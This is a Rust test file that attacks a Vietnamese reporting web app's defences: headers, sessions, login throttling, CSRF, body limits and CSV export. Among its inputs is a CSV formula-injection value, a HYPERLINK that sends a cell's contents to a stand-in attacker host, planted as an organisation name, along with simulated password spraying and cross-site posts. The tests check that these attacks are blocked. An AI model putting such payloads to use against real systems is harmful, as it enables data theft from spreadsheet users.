//! Black-box tests of the web edge's defences, each written from an attack on `chitieu demo`:
//! the headers every answer carries, sessions (hashed at rest, idle timeout, the cookie over
//! https), sign-in throttling per account that survives a restart, the sign-in form's CSRF
//! token, body limits and NUL bytes, CSV cells that start a formula, and evidence downloads.

use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

use chitieu_app::{ManualClock, hash_password};
use chitieu_core::measure::Measure;
use chitieu_core::period::Period;
use chitieu_import::registry::{RegistryFile, read_registry};
use chitieu_store::{NewUser, ReportKey, SqlStore, UserRole, ValueInput};
use chitieu_web::{AppState, Config};
use reqwest::StatusCode;
use reqwest::header::HeaderMap;

const AT: &str = "2026-11-23T08:00:00Z";
const ORGS: &[u8] = include_bytes!("../../../../fixtures/registry/ninh-binh-orgs.csv");
const GROUPS: &[u8] = include_bytes!("../../../../fixtures/registry/ninh-binh-groups.csv");
const PASSWORD: &str = "mật khẩu đúng";
const PDF: &[u8] = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n";

/// A running app over its own database with one reporter ("baocao"), started with the
/// settings of a TOML text (as `chitieu serve --config` reads them).
struct App {
    base: String,
    store: SqlStore,
    clock: Arc<ManualClock>,
    settings: String,
    dir: tempfile::TempDir,
}

impl App {
    async fn start(settings: &str) -> App {
        let dir = tempfile::tempdir().expect("temp dir");
        let store =
            chitieu_store::connect(&format!("sqlite:{}", dir.path().join("web.db").display())).await.expect("store");
        for (name, bytes) in [("orgs.csv", ORGS), ("groups.csv", GROUPS)] {
            match read_registry(name, bytes).expect("registry") {
                RegistryFile::Orgs(records) => store.import_orgs(&records, "test", AT).await.expect("orgs"),
                RegistryFile::Groups(records) => store.import_groups(&records, "test", AT).await.expect("groups"),
            };
        }
        let user = NewUser {
            username: "baocao".into(),
            display_name: "Cán bộ báo cáo".into(),
            org: None,
            role: UserRole::Reporter,
            password_hash: hash_password(PASSWORD).expect("hash"),
            email: None,
        };
        store.add_user(user, "test", AT).await.expect("user");
        let clock = Arc::new(ManualClock::new(AT.parse().expect("time")));
        let mut app = App { base: String::new(), store, clock, settings: settings.to_owned(), dir };
        app.base = app.serve().await;
        app
    }

    /// Starts a server over the app's database (a second one: what a restart finds) and
    /// returns its address.
    async fn serve(&self) -> String {
        let file = self.dir.path().join("chitieu.toml");
        std::fs::write(&file, &self.settings).expect("settings file");
        let config = Config::load(Some(&file)).expect("the settings are accepted");
        let state = AppState::new(self.store.clone(), self.clock.clone()).with_config(config).expect("settings");
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
        let base = format!("http://{}", listener.local_addr().expect("address"));
        tokio::spawn(chitieu_web::serve(listener, state));
        base
    }

    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base)
    }
}

/// A browser that keeps its cookies by hand (so that `Secure` cookies still go back over the
/// tests' plain http) and does not follow redirects.
struct Visit {
    base: String,
    client: reqwest::Client,
    cookies: Vec<String>,
}

impl Visit {
    fn new(base: &str) -> Visit {
        Visit::from_address(base, IpAddr::V4(Ipv4Addr::LOCALHOST))
    }

    /// A browser on another machine: its requests come from `address` (127.0.0.0/8 all loops
    /// back on Linux).
    fn from_address(base: &str, address: IpAddr) -> Visit {
        let client = reqwest::Client::builder()
            .local_address(address)
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .expect("client");
        Visit { base: base.to_owned(), client, cookies: Vec::new() }
    }

    fn keep(&mut self, headers: &HeaderMap) {
        for set in headers.get_all("set-cookie").iter().filter_map(|v| v.to_str().ok()) {
            let pair = set.split(';').next().unwrap_or_default().to_owned();
            let name = pair.split('=').next().unwrap_or_default().to_owned();
            self.cookies.retain(|c| !c.starts_with(&format!("{name}=")));
            if !set.contains("Max-Age=0") {
                self.cookies.push(pair);
            }
        }
    }

    fn cookie(&self, name: &str) -> Option<String> {
        self.cookies.iter().find_map(|c| c.strip_prefix(&format!("{name}=")).map(str::to_owned))
    }

    async fn get(&mut self, path: &str) -> reqwest::Response {
        let request = self.client.get(format!("{}{path}", self.base)).header("cookie", self.cookies.join("; "));
        let response = request.send().await.expect("GET");
        self.keep(response.headers());
        response
    }

    async fn post(&mut self, path: &str, form: &[(&str, &str)], extra: &[(&str, &str)]) -> reqwest::Response {
        let mut request =
            self.client.post(format!("{}{path}", self.base)).header("cookie", self.cookies.join("; ")).form(form);
        for (name, value) in extra {
            request = request.header(*name, *value);
        }
        let response = request.send().await.expect("POST");
        self.keep(response.headers());
        response
    }

    /// Opens the sign-in form and submits it.
    async fn sign_in(&mut self, username: &str, password: &str) -> reqwest::Response {
        let form = self.get("/dang-nhap").await.text().await.expect("sign-in page");
        let csrf = crate::app::csrf_in(&form);
        self.post("/dang-nhap", &[("csrf", &csrf), ("username", username), ("password", password)], &[]).await
    }
}

fn header(response: &reqwest::Response, name: &str) -> String {
    response.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned()
}

fn set_cookies(response: &reqwest::Response) -> Vec<String> {
    response.headers().get_all("set-cookie").iter().filter_map(|v| v.to_str().ok()).map(str::to_owned).collect()
}

// 1. Headers.

#[tokio::test]
async fn every_answer_carries_the_security_headers_and_signed_in_answers_are_not_cached() {
    let app = App::start("").await;
    let mut browser = Visit::new(&app.base);
    let anonymous = browser.get("/dang-nhap").await;
    assert_eq!(browser.sign_in("baocao", PASSWORD).await.status(), StatusCode::SEE_OTHER);
    let mut answers = vec![("/dang-nhap", anonymous)];
    for path in ["/ke-hoach", "/api/v1/plans", "/khong-co-trang-nay", "/static/app.css"] {
        answers.push((path, browser.get(path).await));
    }
    for (path, answer) in &answers {
        let policy = header(answer, "content-security-policy");
        for directive in ["default-src 'self'", "script-src 'self'", "frame-ancestors 'none'", "object-src 'none'"] {
            assert!(policy.contains(directive), "{path}: {directive} in {policy:?}");
        }
        assert!(!policy.contains("unsafe-inline") && !policy.contains("unsafe-eval"), "{path}: {policy}");
        assert_eq!(header(answer, "x-frame-options"), "DENY", "{path}");
        assert_eq!(header(answer, "x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header(answer, "referrer-policy"), "same-origin", "{path}");
        assert_eq!(header(answer, "strict-transport-security"), "", "{path}: no HSTS over plain http");
        let cache = header(answer, "cache-control");
        if path.starts_with("/static/") {
            assert!(cache.contains("max-age=31536000"), "{path}: assets stay cached: {cache}");
        } else {
            assert!(cache.contains("no-store"), "{path}: {cache:?}");
        }
    }
}

#[tokio::test]
async fn pages_carry_no_inline_script_handlers_or_style_attributes() {
    let app = App::start("").await;
    let mut browser = Visit::new(&app.base);
    let mut pages = vec![browser.get("/dang-nhap").await.text().await.expect("page")];
    browser.sign_in("baocao", PASSWORD).await;
    for path in ["/ke-hoach", "/viec-cua-toi", "/tong-quan", "/thong-bao"] {
        pages.push(browser.get(path).await.text().await.expect("page"));
    }
    for page in &pages {
        for tag in page.split("<script").skip(1) {
            let open = tag.split('>').next().unwrap_or_default();
            assert!(open.contains("src=") || open.contains("type=\"application/json\""), "inline script: {open}");
        }
        let lower = page.to_lowercase();
        assert!(!lower.contains(" style="), "a style attribute in {page}");
        for handler in [" onclick=", " onload=", " onchange=", " onsubmit=", " hx-on", "javascript:"] {
            assert!(!lower.contains(handler), "{handler} in {page}");
        }
    }
}

#[tokio::test]
async fn hsts_is_sent_only_when_the_public_address_is_https() {
    let app = App::start("[server]\npublic_url = \"https://chitieu.example.vn\"\n").await;
    let answer = Visit::new(&app.base).get("/dang-nhap").await;
    assert!(header(&answer, "strict-transport-security").starts_with("max-age="), "{:?}", answer.headers());
}

// 2. Sessions.

#[tokio::test]
async fn session_ids_are_kept_only_as_their_sha_256_at_rest() {
    let app = App::start("").await;
    let mut browser = Visit::new(&app.base);
    browser.sign_in("baocao", PASSWORD).await;
    let id = browser.cookie("chitieu_session").expect("a session cookie");
    let hashed: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM sessions WHERE token_hash = $1")
        .bind(chitieu_core::digest::sha256_hex(id.as_bytes()))
        .fetch_one(app.store.pool())
        .await
        .expect("the sessions table keeps hashes");
    assert_eq!(hashed, 1);
    let raw: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM sessions WHERE token_hash = $1")
        .bind(&id)
        .fetch_one(app.store.pool())
        .await
        .expect("count");
    assert_eq!(raw, 0, "the cookie's value itself is nowhere in the table");
    assert_eq!(browser.get("/ke-hoach").await.status(), StatusCode::OK, "the cookie still opens the session");
}

#[tokio::test]
async fn a_session_ends_after_thirty_idle_minutes_while_use_keeps_it_open() {
    let app = App::start("").await;
    let mut browser = Visit::new(&app.base);
    browser.sign_in("baocao", PASSWORD).await;
    for _ in 0..3 {
        app.clock.advance(chrono::Duration::minutes(25));
        assert_eq!(browser.get("/ke-hoach").await.status(), StatusCode::OK, "each request counts as use");
    }
    app.clock.advance(chrono::Duration::minutes(31));
    let idle = browser.get("/ke-hoach").await;
    assert_eq!(idle.status(), StatusCode::SEE_OTHER);
    assert_eq!(header(&idle, "location"), "/dang-nhap");
}

#[tokio::test]
async fn the_idle_timeout_is_a_setting() {
    let app = App::start("[server]\nsession_idle_minutes = 5\n").await;
    let mut browser = Visit::new(&app.base);
    browser.sign_in("baocao", PASSWORD).await;
    app.clock.advance(chrono::Duration::minutes(6));
    assert_eq!(browser.get("/ke-hoach").await.status(), StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn over_https_the_session_cookie_is_host_prefixed_and_secure() {
    let app = App::start("[server]\npublic_url = \"https://chitieu.example.vn\"\n").await;
    let mut browser = Visit::new(&app.base);
    let signed = browser.sign_in("baocao", PASSWORD).await;
    assert_eq!(signed.status(), StatusCode::SEE_OTHER);
    let cookies = set_cookies(&signed);
    let session = cookies.iter().find(|c| c.starts_with("__Host-chitieu_session=")).expect("the session cookie");
    for part in ["Secure", "HttpOnly", "SameSite=Lax", "Path=/"] {
        assert!(session.contains(part), "{part} in {session}");
    }
    assert!(!session.contains("Domain="), "{session}");
    assert_eq!(browser.get("/ke-hoach").await.status(), StatusCode::OK);

    let plain = App::start("").await;
    let mut browser = Visit::new(&plain.base);
    let signed = browser.sign_in("baocao", PASSWORD).await;
    let cookies = set_cookies(&signed);
    let session = cookies.iter().find(|c| c.starts_with("chitieu_session=")).expect("today's name over http");
    assert!(!session.contains("Secure"), "the demo works on http://127.0.0.1: {session}");
}

// 3. Sign-in throttling.

#[tokio::test]
async fn five_wrong_passwords_hold_the_account_whatever_address_the_right_one_comes_from() {
    let app = App::start("").await;
    let mut guesser = Visit::new(&app.base);
    for _ in 0..5 {
        assert_eq!(guesser.sign_in("baocao", "đoán bừa").await.status(), StatusCode::UNAUTHORIZED);
    }
    let mut elsewhere = Visit::from_address(&app.base, IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2)));
    let held = elsewhere.sign_in("BaoCao", PASSWORD).await;
    assert_eq!(held.status(), StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(header(&held, "retry-after"), "60", "one minute after the fifth failure");
    assert!(held.text().await.expect("page").contains("Đăng nhập sai quá nhiều lần"));
}

#[tokio::test]
async fn the_wait_doubles_with_each_further_failure_and_ends_with_a_right_password() {
    let app = App::start("").await;
    let mut browser = Visit::new(&app.base);
    for _ in 0..5 {
        browser.sign_in("baocao", "đoán bừa").await;
    }
    for wait in [60, 120, 240] {
        assert_eq!(header(&browser.sign_in("baocao", PASSWORD).await, "retry-after"), wait.to_string());
        app.clock.advance(chrono::Duration::seconds(wait));
        assert_eq!(browser.sign_in("baocao", "vẫn sai").await.status(), StatusCode::UNAUTHORIZED);
    }
    app.clock.advance(chrono::Duration::minutes(8));
    assert_eq!(browser.sign_in("baocao", PASSWORD).await.status(), StatusCode::SEE_OTHER);
    let mut again = Visit::new(&app.base);
    for _ in 0..4 {
        assert_eq!(again.sign_in("baocao", "lại sai").await.status(), StatusCode::UNAUTHORIZED);
    }
    assert_eq!(again.sign_in("baocao", PASSWORD).await.status(), StatusCode::SEE_OTHER, "success starts afresh");
}

#[tokio::test]
async fn a_restart_does_not_clear_an_account_lock() {
    let app = App::start("").await;
    let mut browser = Visit::new(&app.base);
    for _ in 0..5 {
        browser.sign_in("baocao", "đoán bừa").await;
    }
    let restarted = app.serve().await;
    let held = Visit::new(&restarted).sign_in("baocao", PASSWORD).await;
    assert_eq!(held.status(), StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test]
async fn one_address_guessing_many_accounts_is_held_too() {
    let app = App::start("").await;
    let mut sprayer = Visit::new(&app.base);
    for n in 0..20 {
        let status = sprayer.sign_in(&format!("nguoi-dung-{n}"), "123456").await.status();
        assert_eq!(status, StatusCode::UNAUTHORIZED, "attempt {n}");
    }
    let held = sprayer.sign_in("baocao", PASSWORD).await;
    assert_eq!(held.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(!header(&held, "retry-after").is_empty());
    let mut other = Visit::from_address(&app.base, IpAddr::V4(Ipv4Addr::new(127, 0, 0, 3)));
    assert_eq!(other.sign_in("baocao", PASSWORD).await.status(), StatusCode::SEE_OTHER, "others are not held");
}

#[tokio::test]
async fn forwarded_addresses_are_believed_only_from_the_trusted_proxy() {
    let spray = async |base: &str, forwarded: &str| {
        let mut browser = Visit::new(base);
        let mut last = StatusCode::OK;
        for n in 0..21 {
            let form = browser.get("/dang-nhap").await.text().await.expect("page");
            let csrf = crate::app::csrf_in(&form);
            let fields = [("csrf", csrf.as_str()), ("username", &format!("ai-{n}")), ("password", "x")];
            last = browser.post("/dang-nhap", &fields, &[("x-forwarded-for", forwarded)]).await.status();
        }
        last
    };
    let direct = App::start("").await;
    assert_eq!(spray(&direct.base, "10.0.0.1").await, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(spray(&direct.base, "10.0.0.2").await, StatusCode::TOO_MANY_REQUESTS, "a made-up header is ignored");

    let proxied = App::start("[server]\ntrusted_proxy = \"127.0.0.1\"\n").await;
    assert_eq!(spray(&proxied.base, "10.0.0.1").await, StatusCode::TOO_MANY_REQUESTS);
    let mut second = Visit::new(&proxied.base);
    let form = second.get("/dang-nhap").await.text().await.expect("page");
    let csrf = crate::app::csrf_in(&form);
    let fields = [("csrf", csrf.as_str()), ("username", "baocao"), ("password", PASSWORD)];
    let other = second.post("/dang-nhap", &fields, &[("x-forwarded-for", "203.0.113.9, 10.0.0.2")]).await;
    assert_eq!(other.status(), StatusCode::SEE_OTHER, "the proxy's word for the client's address");
}

// 4. CSRF, body limits, NUL bytes.

#[tokio::test]
async fn a_sign_in_with_a_planted_csrf_cookie_is_refused() {
    let app = App::start("").await;
    let planted = "a".repeat(64);
    let response = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("client")
        .post(app.url("/dang-nhap"))
        .header("cookie", format!("chitieu_signin_csrf={planted}"))
        .form(&[("csrf", planted.as_str()), ("username", "baocao"), ("password", PASSWORD)])
        .send()
        .await
        .expect("POST");
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn a_sign_in_posted_from_another_site_is_refused_even_with_a_real_token() {
    let app = App::start("").await;
    let mut browser = Visit::new(&app.base);
    let form = browser.get("/dang-nhap").await.text().await.expect("page");
    let csrf = crate::app::csrf_in(&form);
    let fields = [("csrf", csrf.as_str()), ("username", "baocao"), ("password", PASSWORD)];
    let cross = browser.post("/dang-nhap", &fields, &[("origin", "https://ke-gian.example")]).await;
    assert_eq!(cross.status(), StatusCode::FORBIDDEN);
    let same = browser.post("/dang-nhap", &fields, &[("origin", &app.base)]).await;
    assert_eq!(same.status(), StatusCode::SEE_OTHER, "the app's own origin is fine");
}

#[tokio::test]
async fn the_sign_in_page_gives_a_new_token_rather_than_adopting_the_cookie_it_is_sent() {
    let app = App::start("").await;
    let planted = "b".repeat(64);
    let response = reqwest::Client::new()
        .get(app.url("/dang-nhap"))
        .header("cookie", format!("chitieu_signin_csrf={planted}"))
        .send()
        .await
        .expect("GET");
    let page = response.text().await.expect("page");
    assert_ne!(crate::app::csrf_in(&page), planted);
}

/// A monitor's review of the office's submitted report, the CSRF token in the header as htmx
/// sends it.
async fn review_with_header_token(app: &crate::app::App, comment: &str) -> (StatusCode, String) {
    let item = app.owed_item(Measure::Ratio).await;
    let key =
        ReportKey { plan_key: app.plan().key.clone(), period: Period::parse(crate::app::Q1).unwrap(), org: app.office };
    let value = ValueInput { item_key: item, numerator: Some(1.0), denominator: Some(2.0), ..ValueInput::default() };
    let saved = app.store.save_values(&key, &[value], 0, "baocao", crate::app::AT).await.expect("save");
    let head = app.store.submit_report(saved.report_id, saved.version, "duyet", crate::app::AT).await.expect("submit");
    let monitor = app.sign_in("giamsat").await;
    let version = head.version.to_string();
    let response = monitor
        .client
        .post(format!("{}/duyet/{}", app.base, saved.report_id))
        .header("x-csrf-token", &monitor.csrf)
        .form(&[("version", version.as_str()), ("quyet-dinh", "tra-lai"), ("nhan-xet", comment)])
        .send()
        .await
        .expect("POST");
    (response.status(), response.text().await.expect("body"))
}

#[tokio::test]
async fn a_megabyte_comment_is_refused_when_the_token_comes_in_the_header() {
    let app = crate::app::App::start().await;
    let (status, page) = review_with_header_token(&app, &"x".repeat(1024 * 1024)).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{page}");
    assert!(page.contains("quá lớn"), "{page}");
    let id = app.report_id().await;
    assert!(app.store.report(id).await.expect("report").head.reviewed_at.is_none(), "nothing stored");
}

#[tokio::test]
async fn a_nul_byte_in_a_form_field_is_refused_in_vietnamese() {
    let app = crate::app::App::start().await;
    let (status, page) = review_with_header_token(&app, "Số liệu\0chưa khớp").await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{page}");
    assert!(page.contains("ký tự NUL"), "{page}");

    let mut browser = Visit::new(&app.base);
    let form = browser.get("/dang-nhap").await.text().await.expect("page");
    let csrf = crate::app::csrf_in(&form);
    let signed = browser.post("/dang-nhap", &[("csrf", &csrf), ("username", "bao\0cao"), ("password", "x")], &[]).await;
    assert_eq!(signed.status(), StatusCode::BAD_REQUEST);
}

// 5. CSV and downloads.

#[tokio::test]
async fn csv_text_cells_that_start_a_formula_are_neutralised_but_negative_numbers_are_not() {
    let app = crate::app::App::start().await;
    let period = Period::parse(crate::app::Q1).expect("Q1");
    let owed = app.store.obligations(app.plan().id, period).await.expect("obligations");
    let (item, org) = app
        .plan()
        .items
        .iter()
        .filter(|i| i.measure == Measure::Count)
        .find_map(|i| owed.iter().find(|o| o.item_key == i.key).map(|o| (i.key.clone(), o.org)))
        .expect("a count item owed in Q1");
    let key = ReportKey { plan_key: app.plan().key.clone(), period, org };
    let value = ValueInput { item_key: item.clone(), number: Some(-12.0), ..ValueInput::default() };
    let saved = app.store.save_values(&key, &[value], 0, "baocao", crate::app::AT).await.expect("save");
    app.store.submit_report(saved.report_id, saved.version, "duyet", crate::app::AT).await.expect("submit");
    let hostile = "=HYPERLINK(\"http://ke-gian.example/?\"&A1,\"Bấm\")";
    sqlx::query("UPDATE orgs SET name = $1 WHERE id = $2")
        .bind(hostile)
        .bind(org)
        .execute(app.store.pool())
        .await
        .expect("a unit named like a formula");

    let leader = app.sign_in("lanhdao").await;
    let (status, csv) =
        leader.get(&format!("/api/v1/plans/{}/evaluation?period=2026-Q1&format=csv", app.plan().id)).await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().expect("header").clone();
    let column = |name: &str| headers.iter().position(|h| h == name).expect(name);
    let row = reader
        .records()
        .map(|r| r.expect("record"))
        .find(|r| r[column("item_key")] == *item && r[column("org")] == org.to_string())
        .expect("the unit's line");
    assert_eq!(&row[column("org_name")], format!("'{hostile}"));
    assert_eq!(&row[column("value")], "-12.0", "a negative number stays a number");
    assert!(row[column("reported")].starts_with('-'), "a negative number in words stays too: {row:?}");
}

#[tokio::test]
async fn evidence_downloads_carry_the_extension_of_the_detected_type() {
    let app = crate::app::App::start().await;
    let item = app.owed_item(Measure::Ratio).await;
    let reporter = app.sign_in("baocao").await;
    let version = reporter.form_version(&app.form_path()).await;
    let (tu, mau) = (format!("tu|{item}"), format!("mau|{item}"));
    reporter.post(&app.form_path(), &[("version", &version), (&tu, "1"), (&mau, "2"), ("hanh-dong", "luu")]).await;
    let (status, _) = reporter.upload(&app.upload_path(), &item, "bao-cao.html", PDF).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (status, _) = reporter.upload(&app.upload_path(), &item, "khong-duoi", PDF).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let files = app.store.evidence(app.report_id().await).await.expect("evidence");
    for (file, expected) in files.iter().zip(["bao-cao.pdf", "khong-duoi.pdf"]) {
        let download = reporter.client.get(format!("{}/minh-chung/{}", app.base, file.id)).send().await.expect("GET");
        let disposition = header(&download, "content-disposition");
        assert!(disposition.starts_with("attachment"), "{disposition}");
        assert!(disposition.ends_with(&format!("''{expected}")), "{disposition}");
        assert!(!disposition.contains(".html"), "{disposition}");
        assert!(disposition.contains(".pdf\""), "the plain name too: {disposition}");
    }
}
